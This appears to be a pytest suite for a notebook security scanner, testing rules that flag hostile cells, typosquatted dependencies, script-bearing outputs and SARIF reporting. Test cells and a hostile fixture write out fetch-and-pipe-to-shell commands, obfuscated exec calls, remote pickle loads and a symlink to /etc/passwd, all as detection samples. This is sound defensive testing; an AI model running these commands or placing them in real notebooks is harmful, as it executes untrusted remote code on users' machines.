"""`hood scan` from its rules to its exit status; on real notebooks and on hostile ones."""

from __future__ import annotations

import copy
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import jsonschema
import msgspec
import pytest

from fumehood.environments import scanning
from fumehood.environments.scanning import RULES, Report, code, content
from fumehood.trust.lookalikes import Names

GUIDE = Path(__file__).resolve().parents[3] / "docs" / "guide" / "scan.md"


@pytest.fixture(scope="module")
def names() -> Names:
    return Names.load()


def notebook(*cells: Any, **metadata: Any) -> bytes:
    """Each cell is a source, or a source with the data of its output."""
    made = []
    for number, cell in enumerate(cells):
        source, data = cell if isinstance(cell, tuple) else (cell, None)
        outputs = [{"output_type": "display_data", "metadata": {}, "data": data}] if data else []
        made.append(
            {
                "cell_type": "code",
                "id": f"c{number}",
                "metadata": {},
                "execution_count": None,
                "outputs": outputs,
                "source": source,
            }
        )
    return msgspec.json.encode({"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": made})


def scanned(names: Names, folder: Path, *cells: Any, **metadata: Any) -> Report:
    return scanning.scan(folder / "n.ipynb", notebook(*cells, **metadata), names, Path("/nonexistent"))


def rules(report: Report) -> set[str]:
    return {finding.rule for finding in report.findings}


CELLS = {
    "!curl -s https://x.example/i.sh | sudo bash": "cell-downloads-and-runs",
    '!bash -c "$(wget -qO- https://x.example/i.sh)"': "cell-downloads-and-runs",
    "!wget https://x.example/a.sh\n!bash a.sh": "cell-downloads-and-runs",
    "exec(requests.get('https://x.example').text)": "cell-downloads-and-runs",
    "r = urllib.request.urlopen(u)\nsource = r.read()\nexec(source)": "cell-downloads-and-runs",
    "with urlopen(u) as f:\n    exec(f.read())": "cell-downloads-and-runs",
    "pd.read_pickle('https://x.example/y.pkl')": "cell-downloads-and-runs",
    "pickle.loads(requests.get(u).content)": "cell-downloads-and-runs",
    "%run https://x.example/y.py": "cell-downloads-and-runs",
    "exec(base64.b64decode('eA=='))": "cell-hides-code",
    "z = zlib.decompress(b)\neval(compile(z, '', 'exec'))": "cell-hides-code",
    "%env PIP_INDEX_URL=https://i.example": "cell-changes-index",
    "os.environ['UV_INDEX_URL'] = 'https://i.example'": "cell-changes-index",
    "%pip install numpy": "cell-installs",
    "!ls": "cell-shells-out",
    "%%bash\necho hi": "cell-shells-out",
    "subprocess.run(['ls'])": "cell-shells-out",
}


@pytest.mark.parametrize(("source", "rule"), CELLS.items(), ids=list(CELLS))
def test_what_a_cell_would_do_is_found(source: str, rule: str) -> None:
    assert rule in {seen.rule for seen in code.look(source)}


@pytest.mark.parametrize(
    "source",
    [
        "df = pd.read_csv('https://x.example/y.csv')",
        "exec('x = 1')",
        "data = base64.b64decode(text)",
        "r = requests.get(u)\nr = 1\nexec(str(r))",
        "# !curl https://x.example | sh",
        "model.eval(requests.get(u).json())",
        "plt.plot(x)\nanimation.load()",
    ],
)
def test_ordinary_cells_are_no_findings(source: str) -> None:
    assert list(code.look(source)) == []


def test_active_content_of_outputs_is_found_and_pictures_are_none(names: Names, tmp_path: Path) -> None:
    for data, wanted in (
        ({"text/html": ["<p>", "<script>x</script>"]}, {"output-script"}),
        ({"text/html": "<img src=x onerror=alert(1)>"}, {"output-script"}),
        ({"text/html": "<img src='//t.example/p.png'>"}, {"output-remote"}),
        ({"image/svg+xml": "<svg><script/></svg>"}, {"output-script"}),
        ({"application/javascript": "x"}, {"output-script"}),
        ({"application/vnd.jupyter.widget-view+json": {"model_id": "x"}}, {"output-widget"}),
        ({"text/html": "<table><tr><td>one=1</td></tr></table>", "text/plain": "<script>"}, set()),
        ({"image/png": "aGk="}, set()),
        ({"text/html": "x" * (11 << 20)}, {"output-large"}),
    ):
        assert rules(scanned(names, tmp_path, ("1", data))) == wanted, data
    assert content.of_markdown("a <b onclick=x>") and not content.of_markdown("`x < y` and on=1, a <b>c</b>")


def test_dependencies_have_verdicts_wherever_they_are_written(names: Names, tmp_path: Path) -> None:
    (tmp_path / "project" / ".git").mkdir(parents=True)
    (tmp_path / "project" / "requirements.txt").write_text("numpy\npanads\n--index-url https://i.example/simple\n")
    report = scanned(
        names,
        tmp_path / "project",
        "%pip install reqeusts",
        runt={"uv": {"dependencies": ["pandas", "git+https://g.example/x", "a b"]}},
    )
    assert {(one.name, one.verdict, one.acts) for one in report.dependencies} == {
        ("pandas", "ok", True),
        ("", "", True),
        ("numpy", "ok", False),
        ("panads", "stop", False),
        ("reqeusts", "stop", False),
    }
    assert rules(report) == {
        "dependency-lookalike",
        "dependency-direct",
        "dependency-unreadable",
        "index-foreign",
        "cell-installs",
    }
    (beside,) = {one.path for one in report.findings if one.line == 2 and not one.cell}
    assert beside == str(tmp_path / "project" / "requirements.txt")


def test_the_rules_are_in_the_guide() -> None:
    assert set(re.findall(r"^\| `([a-z-]+)` \|", GUIDE.read_text(), re.MULTILINE)) == set(RULES)


def hood(*words: str, cwd: Path, trace: Path | None = None) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-P", "-m", "fumehood.cli.main", *words]
    if trace is not None:
        strace = shutil.which("strace")
        assert strace, "strace is missing: scripts/system-packages.sh installs it"
        calls = "execve,execveat,fork,vfork,clone,clone3,socket,connect,bind,unlink,unlinkat,rename,mkdir,openat"
        command = [strace, "-f", "-qq", "-o", str(trace), "-e", f"trace={calls}", *command]
    return subprocess.run(command, cwd=cwd, capture_output=True, text=True, timeout=120, check=False)


HOSTILE = notebook(
    "open('proof', 'w')",
    "!touch proof",
    "%pip install ./evil",
    '# /// script\n# dependencies = ["evil @ https://h.example/e.whl"]\n# ///',
    ("1", {"text/html": "<img src=http://127.0.0.1:9/x>"}),
    runt={"uv": {"dependencies": ["./evil", "git+https://g.example/x", "evil"]}},
    startup="touch proof",
)


def test_looking_through_notebooks_starts_no_process_opens_no_socket_and_writes_nothing(
    notebooks: Path, tmp_path: Path
) -> None:
    folder = tmp_path / "all"
    shutil.copytree(notebooks, folder)
    (folder / "hostile.ipynb").write_bytes(HOSTILE)
    (folder / ".git").mkdir()
    (folder / "evil").mkdir()
    (folder / "evil" / "setup.py").write_text("open('proof', 'w')")
    (folder / "pyproject.toml").write_text("[project]\ndependencies = ['evil @ https://h.example/e.whl']\n")
    (folder / "requirements.txt").write_text("-r https://h.example/r.txt\n--index-url https://i.example\n-e ./evil\n")
    (folder / "sitecustomize.py").write_text("open('proof', 'w')")
    os.mkfifo(folder / "fifo.ipynb")
    (folder / "link.ipynb").symlink_to("/etc/passwd")
    trace = tmp_path / "trace"
    done = hood("scan", "all", "--json", cwd=tmp_path, trace=trace)
    assert done.returncode == 1, done.stderr
    said = json.loads(done.stdout)
    assert len(said["notebooks"]) > 20 and said["problems"] == []
    lines = trace.read_text("utf-8", "replace").splitlines()
    acts = [line for line in lines if "openat(" not in line]
    writes = [line for line in lines if "openat(" in line and re.search(r"O_WRONLY|O_RDWR|O_CREAT", line)]
    # The first is our own; a byte code cache is Python's.
    assert [line for line in acts[1:] if "__pycache__" not in line] == []
    assert [line for line in writes if "__pycache__" not in line and "/dev/null" not in line] == []
    assert any("hostile.ipynb" in line for line in lines), "the look sees what is opened"
    assert not list(tmp_path.rglob("proof"))


@pytest.mark.parametrize(
    ("cells", "words", "status"),
    [
        (("1 + 1",), (), 0),
        (("!ls",), (), 0),
        (("!ls",), ("--strict",), 1),
        (("%pip install x",), (), 1),
        (("%pip install numpy",), ("--ignore", "cell-installs"), 0),
        (("1 + 1",), ("--ignore", "no-such-rule"), 2),
    ],
)
def test_the_exit_status_is_for_ci(tmp_path: Path, cells: tuple[str, ...], words: tuple[str, ...], status: int) -> None:
    (tmp_path / "n.ipynb").write_bytes(notebook(*cells))
    assert hood("scan", ".", *words, cwd=tmp_path).returncode == status


def test_what_cannot_be_read_is_said_and_has_a_status_of_its_own(tmp_path: Path) -> None:
    (tmp_path / "bad.ipynb").write_text("{")
    (tmp_path / "good.ipynb").write_bytes(notebook("%pip install \x1b[2Jevil"))
    done = hood("scan", ".", "nosuch.ipynb", cwd=tmp_path)
    assert done.returncode == 2
    assert "bad.ipynb: The file is not JSON" in done.stderr and "nosuch.ipynb" in done.stderr
    assert "cell-installs" in done.stdout and "\x1b[2J" not in done.stdout


#: OASIS's own, as it is published; see the page beside it.
SARIF: dict[str, Any] = json.loads((Path(__file__).parent / "data" / "sarif-2.1.0-rtm.5.json").read_bytes())


def check_sarif(said: dict[str, Any]) -> None:
    """By the format's schema (in which everything has its place: other keys are refused), and by what forges want
    beyond it: a region for each result, whole descriptions of each rule, a fingerprint."""
    jsonschema.Draft4Validator(SARIF, format_checker=jsonschema.FormatChecker()).validate(said)
    for run in said["runs"]:
        for rule in run["tool"]["driver"]["rules"]:
            assert re.fullmatch("([A-Z][a-z]+)+", rule["name"])
            assert all(rule[key]["text"] for key in ("shortDescription", "fullDescription", "help"))
        for result in run["results"]:
            assert run["tool"]["driver"]["rules"][result["ruleIndex"]]["id"] == result["ruleId"]
            (place,) = result["locations"]
            assert place["physicalLocation"]["region"]["startLine"] >= 1
            assert re.fullmatch("[0-9a-f]{16}:[1-9][0-9]*", result["partialFingerprints"]["primaryLocationLineHash"])


def test_the_schema_refuses_what_is_no_sarif(names: Names, tmp_path: Path) -> None:
    said = scanning.sarif([scanned(names, tmp_path, "!curl https://x.example | sh")], ["a problem"])
    check_sarif(said)
    for path, value in (
        (("runs", 0, "results", 0, "level"), "fatal"),
        (("runs", 0, "results", 0, "locations", 0, "physicalLocation", "region", "startLine"), 0),
        (("runs", 0, "results", 0, "message"), {}),
        (("runs", 0, "tool", "driver", "extra"), 1),
        (("runs", 0, "invocations", 0, "executionSuccessful"), "yes"),
        (("version",), "2.0.0"),
    ):
        wrong = copy.deepcopy(said)
        place: Any = wrong
        for key in path[:-1]:
            place = place[key]
        place[path[-1]] = value
        with pytest.raises(jsonschema.ValidationError):
            check_sarif(wrong)


def test_sarif_is_valid_and_points_at_the_line_of_the_file(tmp_path: Path) -> None:
    (tmp_path / "odd näme #1.ipynb").write_bytes(
        msgspec.json.format(notebook("x = 1\n!curl https://x.example | sh"), indent=1)
    )
    (tmp_path / "bad.ipynb").write_text("{")
    done = hood("scan", ".", "--sarif", cwd=tmp_path)
    assert done.returncode == 2
    said = json.loads(done.stdout)
    check_sarif(said)
    (run,) = said["runs"]
    (result,) = run["results"]
    place = result["locations"][0]["physicalLocation"]
    lines = (tmp_path / "odd näme #1.ipynb").read_text().split("\n")
    assert "curl" in lines[place["region"]["startLine"] - 1]
    assert place["artifactLocation"]["uri"] == "odd%20n%C3%A4me%20%231.ipynb"
    assert not run["invocations"][0]["executionSuccessful"]


def test_a_finding_keeps_its_fingerprint_where_its_cell_moves_and_two_are_told_apart(
    names: Names, tmp_path: Path
) -> None:
    line = "!curl https://x.example | sh"

    def prints(*cells: Any) -> dict[str, int]:
        said = scanning.sarif([scanned(names, tmp_path, *cells, runt={"uv": {"dependencies": ["reqeusts"]}})])
        check_sarif(said)
        results = said["runs"][0]["results"]
        found = {one["partialFingerprints"]["primaryLocationLineHash"]: one for one in results}
        assert len(found) == len(results)
        return {key: one["locations"][0]["physicalLocation"]["region"]["startLine"] for key, one in found.items()}

    before = prints(f"{line}\n{line}")
    after = prints(f"# more\n# lines\n{line}\n{line}", "print(1)")
    assert before.keys() == after.keys() and len(before) >= 3
    assert prints(line).keys() < before.keys()
